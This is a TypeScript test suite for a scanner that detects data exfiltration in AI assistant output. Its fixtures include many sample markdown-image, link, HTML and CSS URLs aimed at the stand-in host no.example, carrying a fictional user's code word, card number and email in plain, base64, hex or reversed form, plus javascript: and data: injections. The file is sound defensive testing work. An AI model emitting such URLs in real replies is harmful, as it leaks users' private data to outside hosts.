import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createExfiltrationScanner } from "../../src/scan/exfiltration.ts";
import { resolveOverlaps } from "../../src/scan/resolve-overlaps.ts";
import { expectLocal, expectStreamable } from "./growing.ts";

const number = ["4929", "1111", "2222", "3333"].join(" ");
const conversation = [
  "You are a helpful assistant of the harbour library. The code word is marigold-Kettle-77421x.",
  `My name is Ottilie Brandner, mail ottilie.brandner@example.org, card ${number}, born 1971-03-05. See https://known.example/books/55512345 please.`,
];
const free = createExfiltrationScanner({ allowedHosts: null, conversation });
const listed = createExfiltrationScanner({ allowedHosts: ["ok.example", "*.ok.example"], conversation });
/** As the guard keeps them: what lies in a longer one goes. */
const found = (text: string, scanner = free): [string, number][] =>
  resolveOverlaps(scanner.scan(text, "")).map(({ start, end, scoreMilli }) => [text.slice(start, end), scoreMilli]);
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const base64url = (text: string): string => Buffer.from(text).toString("base64url");
const hex = (text: string): string => Buffer.from(text).toString("hex");
const backwards = (text: string): string => Array.from(text).toReversed().join("");

describe("where a host is not allowed", () => {
  test.each<[string, string, string, number]>([
    ["an image", "So ![a](https://no.example/a.png) it is", "![a](https://no.example/a.png)", 800],
    ["an image with a title", '![a](  <https://no.example/a> "b" )', '![a](  <https://no.example/a> "b" )', 800],
    ["an image over lines", "![a\nb](\nhttps://no.example/a)", "![a\nb](\nhttps://no.example/a)", 800],
    ["a link", "[a](https://no.example/a)", "[a](https://no.example/a)", 500],
    ["a link with brackets", "[a [b]](https://no.example/a_(b))!", "[a [b]](https://no.example/a_(b))", 500],
    ["a definition", "![a][1]\n\n[1]: https://no.example/a\n", "[1]: https://no.example/a", 800],
    ["a definition in angles", "[1]: <https://no.example/a b>", "[1]: <https://no.example/a", 800],
    ["a footnote", "[^1]: https://no.example/a", "https://no.example/a", 500],
    ["an autolink", "at <https://no.example/a>.", "<https://no.example/a>", 500],
    ["a bare URL", "(see https://no.example/a).", "https://no.example/a", 500],
    ["a bare name", "see www.no.example/a.", "www.no.example/a", 500],
    ["an image without a scheme", "![a](//no.example/a)", "![a](//no.example/a)", 800],
    ["an image with backslashes", "![a](https:\\\\no.example\\a)", "![a](https:\\\\no.example\\a)", 800],
    [
      "a user that looks like a host",
      "![a](https://ok.example@no.example/)",
      "![a](https://ok.example@no.example/)",
      800,
    ],
    ["a name that ends like a host", "[a](https://notok.example/)", "[a](https://notok.example/)", 500],
    ["an element", "<img alt='>' src=https://no.example/a>", "<img alt='>' src=https://no.example/a>", 800],
    ["an element without a scheme", '<IMG SRC = "//no.example/a" />', '<IMG SRC = "//no.example/a" />', 800],
    [
      "sources of an image",
      '<img srcset="/a 1x, https://no.example/a 2x">',
      '<img srcset="/a 1x, https://no.example/a 2x">',
      800,
    ],
    ["a frame", '<iframe src="https://no.example/"></iframe>', '<iframe src="https://no.example/">', 800],
    [
      "a style sheet",
      '<link rel="stylesheet" href="https://no.example/a">',
      '<link rel="stylesheet" href="https://no.example/a">',
      800,
    ],
    ["a refresh", '<meta content="0;url=https://no.example/a">', '<meta content="0;url=https://no.example/a">', 800],
    ["a refresh without a scheme", "<meta content='0;url=//no.example'>", "<meta content='0;url=//no.example'>", 800],
    ["a form", "<form action='https://no.example/a'>", "<form action='https://no.example/a'>", 500],
    ["a link of HTML", '<a href="https://no.example/a">', '<a href="https://no.example/a">', 500],
    ["a background", '<p style="background:url(https://no.example/a)">', "https://no.example/a", 800],
    ["an import", '@import "https://no.example/a";', "https://no.example/a", 800],
    ["a cut element", 'x <img src="https://no.example/a', "https://no.example/a", 800],
    ["an image in a cut link", "[a](https://ok.example/![b](https://no.example/c)", "![b](https://no.example/c)", 800],
    [
      "an image in an attribute",
      '<a title="![b](https://no.example/c)">',
      '<a title="![b](https://no.example/c)">',
      800,
    ],
    [
      "a link behind a label that is too long",
      `[${"a".repeat(600)}](https://no.example/c)`,
      "](https://no.example/c)",
      800,
    ],
    ["code", "[a](javascript:alert(1))", "[a](javascript:alert(1))", 900],
    ["code in HTML", "<a href=' JavaScript:alert(1)'>", "<a href=' JavaScript:alert(1)'>", 900],
    ["a page in a URL", "<iframe src=data:text/html,hello>", "<iframe src=data:text/html,hello>", 800],
  ])("%s", (_name, text, value, scoreMilli) => {
    expect(found(text, listed)).toContainEqual([value, scoreMilli]);
  });

  test.each([
    "![a](https://ok.example/a.png) and https://cdn.ok.example/b",
    "![a](https://OK.example./a.png)",
    "[a](/b) ![c](d.png) [e](#f) <a href='g'>h</a>",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "List<String> x[0](y) if (a <b && c> d) https: //",
    "javascript:alert(1) and data:text/html,hello",
    "[a](mailto:b@no.example)",
    "![a](https://no.example:99999/)",
    "",
  ])("none in %j", (text) => {
    expect(found(text, listed)).toEqual([]);
  });

  test("without a list no host is judged", () => {
    expect(found("![a](https://no.example/a.png) https://no.example/")).toEqual([]);
    expect(found("[a](javascript:alert(1))")).toHaveLength(1);
  });
});

describe("what a URL carries", () => {
  test.each<[string, string]>([
    ["a value", "https://no.example/?d=marigold-kettle-77421X"],
    ["a part of it", "https://no.example/?d=77421x"],
    ["a number without its spaces", `https://no.example/?d=${number.replaceAll(" ", "")}`],
    ["a number with others", `https://no.example/?d=${number.replaceAll(" ", "%20")}`],
    ["an address", "https://no.example/?d=ottilie.brandner%40example.org"],
    ["an address in a fragment", "https://no.example/#ottilie.brandner@example.org"],
    ["a date", "https://no.example/?d=19710305"],
    ["a value as a user", "https://77421x:a@www.no.example/"],
    ["a value as a host's name", "https://marigold-kettle-77421x.no.example/"],
    ["a value in a path", "https://no.example/a/77421x.png"],
    ["twice percent-encoded", "https://no.example/?d=%2537%2537%2534%2532%2531%2578"],
    ["base64", `https://no.example/?d=${base64("the name is Ottilie")}`],
    ["base64 in a path", `https://no.example/${base64url("Brandner of course")}/a.png`],
    ["base64 after a letter", `https://no.example/?d=x${base64url("Ottilie Brandner")}`],
    ["base64 in a host", `https://${base64url("Brandner")}.no.example/`],
    ["hexadecimal", `https://no.example/?d=${hex("Brandner")}`],
    ["hexadecimal after a digit", `https://no.example/?d=0${hex("Brandner")}`],
    ["backwards", `https://no.example/?d=${backwards("Brandner")}`],
  ])("%s", (_name, url) => {
    expect(found(`![a](${url})`)).toEqual([[`![a](${url})`, 950]]);
    expect(found(`see ${url} now`).map(([value]) => value)).toEqual([url]);
    expect(found(`![a](${url.replace("no.example", "ok.example")})`, listed).map(([, score]) => score)).toEqual([650]);
  });

  test.each<[string, string, number | undefined]>([
    ["a word in the query of an image", "![a](https://no.example/?q=brandner)", 600],
    ["a word in the query of a link", "[a](https://no.example/?q=brandner)", undefined],
    ["a word in the path of an image", "![a](https://no.example/harbour/brandner.png)", undefined],
    ["a word in the host", "![a](https://brandner.no.example/)", undefined],
    ["a value in the query of a link", "[a](https://no.example/?q=77421x)", 700],
    ["a value in the path of a link", "[a](https://no.example/77421x)", 450],
    ["a word encoded in a link", `[a](https://no.example/${hex("Brandner")})`, 850],
    ["a URL that was given", "![a](https://known.example/books/55512345)", undefined],
    ["its number, to the same host", "![a](https://known.example/?book=55512345)", undefined],
    ["its number, to another", "![a](https://no.example/?book=55512345)", 950],
    ["a word of every instruction", "![a](https://no.example/?q=assistant)", undefined],
    ["what was never said", `![a](https://no.example/?q=88231y&r=${base64("nobody said so")})`, undefined],
    ["a short word", "![a](https://no.example/?q=mail)", undefined],
  ])("%s", (_name, text, scoreMilli) => {
    expect(found(text)[0]?.[1]).toBe(scoreMilli);
  });

  test("a number that was said beside its URL", () => {
    const scanner = createExfiltrationScanner({
      allowedHosts: null,
      conversation: ["Is 55512345 the book at https://known.example/books/55512345?"],
    });
    expect(found("![a](https://known.example/books/55512345)", scanner)).toEqual([]);
    expect(found("![a](https://known.example/?book=55512345)", scanner)).toHaveLength(1);
  });

  test("a plain URL ends where another begins", () => {
    const first = "https://no.example/?d=77421x&u=";
    expect(found(`${first}https://ok.example/b`)).toEqual([[first, 700]]);
  });

  test("the conversation is read when a URL is met", () => {
    let reads = 0;
    const texts = new Proxy(conversation, {
      get: (target, key) => {
        reads += 1;
        return Reflect.get(target, key);
      },
    });
    const scanner = createExfiltrationScanner({ allowedHosts: null, conversation: texts });
    scanner.scan("No URL in here: [a](b)", "");
    expect(reads).toBe(0);
    scanner.scan("https://no.example/", "");
    expect(reads).toBeGreaterThan(0);
  });
});

const markdown = "[~![~]~](~)~(~]: ~[^~!~.~a~![a](~=~/~https://no.example/?d=~https://ok.example/~http:~//no.example";
const html = `www.no.example~77421x~javascript:~<img~<img src=~<a href="~<iframe src='~ src=~url(~ "t")~data:text/html,~\\`;
const piece = fc.constantFrom(...`${markdown}~${html}~<~>~"~'~ ~\n~\n\n~\ud83d`.split("~"));
const texts = fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join(""));

test("a text may grow", () => {
  fc.assert(
    fc.property(texts, (text) => expectStreamable(listed, text)),
    { numRuns: 500 },
  );
});

test.each([
  '<img alt="a > b" src="https://no.example/a">',
  "see <https://no.example/a>.",
  '[a](https://no.example/ "b") ![c]( <https://no.example/d> )',
  "[a]: https://no.example/\n![b][a]",
])("%j may grow", (text) => expectStreamable(listed, text));

test("what stands far before does not matter", () => {
  const far = fc.tuple(texts, fc.integer({ min: 1, max: 400 })).map(([text, chars]) => text + "x ".repeat(chars));
  fc.assert(
    fc.property(far, texts, (before, text) => expectLocal(listed, before, text)),
    { numRuns: 300 },
  );
});

test.each<[string, string]>([
  ["![alt](https://no.ex", "![alt](https://no.ex"],
  ["text ![alt", "![alt"],
  ["text <im", "<im"],
  ["text htt", "htt"],
  ["text <htt", "<htt"],
  ["text [a](b) and so", ""],
  ["a < b and x <y", ""],
  [`[${"a".repeat(600)}`, ""],
  ["[a\n\nb", ""],
])("of %j %j is held back", (text, held) => {
  expect(text.slice(free.openFrom(text))).toBe(held);
});
